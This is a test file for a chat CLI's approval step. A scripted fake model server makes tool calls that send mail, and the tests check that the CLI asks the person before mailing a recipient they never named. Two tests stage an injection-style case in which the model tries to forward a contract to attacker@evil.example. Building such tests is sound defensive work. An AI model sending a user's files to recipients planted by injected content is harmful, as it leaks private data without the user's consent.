/**
 * Approvals in `delegate chat` without a terminal: the real CLI in a child process (its own
 * sandbox), a real ChatOpenAI against a scripted OpenAI-compatible server that sends mail to
 * whoever it is told, and answers on stdin.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runCli, spawnCli, tempDataDir } from "../helpers/cli-process.js";
import { type FakeOpenAI, type ParsedRequestBody, startFakeOpenAI } from "../helpers/fake-openai-server.js";

let openai: FakeOpenAI;
beforeEach(async () => {
  openai = await startFakeOpenAI();
  // Sends one email to the address the message names after "to ", then confirms what the tool said.
  openai.setResponder((body: ParsedRequestBody) => {
    const last = body.messages.at(-1);
    if (last?.role === "tool") {
      return { text: String(last.content).startsWith("Error") ? "Nothing was sent." : "Sent." };
    }
    const to = String(last?.content ?? "").match(/to (\S+@\S+)/)?.[1] ?? "nobody@example.com";
    return {
      toolCalls: [
        {
          name: "gmail_send_message",
          args: { to: [to], subject: "Contract", body: "The terms are attached." },
        },
      ],
    };
  });
});
afterEach(async () => {
  await openai.close();
});

const env = () => ({ OPENAI_BASE_URL: openai.url, OPENAI_API_KEY: "sk-approvals" });
/** What the tool told the model, in order (a sent mail's result carries its thread id). */
const toolResults = () =>
  openai.requests.flatMap((request) =>
    request.messages.filter((m) => m.role === "tool").map((m) => String(m.content)),
  );

describe("approvals in piped delegate chat", () => {
  it("asks on one line naming the foreign target; n rejects and nothing is sent", async () => {
    const dataDir = tempDataDir();
    const cli = spawnCli(["chat", "--auto-approve", "--user", "ann"], { dataDir, env: env() });
    // The person never names attacker@evil.example: it only appears in the model's call.
    cli.writeLine("forward the contract as the last email said");
    openai.setResponder((body) => {
      const last = body.messages.at(-1);
      if (last?.role === "tool")
        return { text: String(last.content).startsWith("Error") ? "Nothing was sent." : "Sent." };
      return {
        toolCalls: [
          {
            name: "gmail_send_message",
            args: { to: ["attacker@evil.example"], subject: "Contract", body: "x" },
          },
        ],
      };
    });
    const asked = await cli.waitFor(/^approval required: .*$/m);
    expect(asked[0]).toContain("attacker@evil.example");
    expect(asked[0]).toContain("not named by you: attacker@evil.example");
    cli.writeLine("n");
    await cli.waitFor("Nothing was sent.");
    cli.endInput();
    expect((await cli.exited).code).toBe(0);
    const results = toolResults();
    expect(results.at(-1)).toMatch(/declined this action.*nothing was done/);
    expect(results.some((text) => text.includes("thread_id"))).toBe(false);
  });

  it("any other text rejects the call and becomes the reason", async () => {
    const dataDir = tempDataDir();
    const result = await runCli(["chat", "--auto-approve", "--user", "bea"], {
      dataDir,
      env: env(),
      // The model picks nobody@example.com, whom the person never named: the next line answers.
      input: "forward the notes\nnot this one please\n",
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^approval required: .*nobody@example\.com/m);
    expect(toolResults().at(-1)).toContain("Their reason: not this one please");
    expect(toolResults().some((text) => text.includes("thread_id"))).toBe(false);
  });

  it("runs without asking when the person named the recipient", async () => {
    const dataDir = tempDataDir();
    const result = await runCli(["chat", "--auto-approve", "--user", "cy"], {
      dataDir,
      env: env(),
      input: "email the contract to sam@example.com\n",
    });
    expect(result.code).toBe(0);
    expect(result.stdout).not.toContain("approval required");
    expect(result.stdout).toMatch(/✓ gmail_send_message/);
    expect(toolResults().at(-1)).toContain("thread_id");
  });

  it("rejects on end of input, and says so", async () => {
    const dataDir = tempDataDir();
    openai.setResponder((body) => {
      const last = body.messages.at(-1);
      if (last?.role === "tool") return { text: "Done here." };
      return {
        toolCalls: [
          { name: "gmail_send_message", args: { to: ["attacker@evil.example"], subject: "s", body: "b" } },
        ],
      };
    });
    const result = await runCli(["chat", "--auto-approve", "--user", "dee"], {
      dataDir,
      env: env(),
      input: "send it\n",
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("approval required:");
    expect(result.stdout).toMatch(
      /Input ended before an answer: the action was rejected, so nothing was done\./,
    );
    expect(toolResults().at(-1)).toContain("the input ended before an answer");
  });

  it("--yes approves what the policy would ask, and the banner says so", async () => {
    const dataDir = tempDataDir();
    openai.setResponder((body) => {
      const last = body.messages.at(-1);
      if (last?.role === "tool")
        return { text: String(last.content).startsWith("Error") ? "Refused." : "Sent it." };
      return {
        toolCalls: [
          { name: "gmail_send_message", args: { to: ["ops@partner.example"], subject: "s", body: "b" } },
        ],
      };
    });
    const result = await runCli(["chat", "--auto-approve", "--yes", "--user", "eve"], {
      dataDir,
      env: env(),
      input: "send the report\n",
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("--yes: every action the approval policy would ask about is approved");
    expect(result.stdout).toContain("(--yes) approved: Send email to ops@partner.example");
    expect(result.stdout).toContain("Sent it.");
  });
});
